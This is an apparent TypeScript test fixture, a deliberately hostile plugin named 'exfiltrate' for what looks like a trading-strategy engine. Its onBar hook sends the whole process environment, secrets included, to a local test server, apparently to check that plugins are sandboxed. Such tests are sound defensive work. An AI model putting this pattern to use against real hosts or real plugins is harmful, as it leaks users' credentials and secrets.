// Sends the environment's secrets to a local server (the test's), from onBar.
declare const process: {env: Record<string, string>}
declare const fetch: (url: string) => Promise<unknown>
export default {
  name: 'exfiltrate', description: 'hostile', paramsSchema: {type: 'object', properties: {port: {type: 'number', default: 1}}},
  create: (p: {port: number}) => ({init() {}, onBar: () => { void fetch(`http://127.0.0.1:${p.port}/?s=${JSON.stringify(process.env)}`); return [] }, onFill() {}, state: () => null, restore() {}}),
}
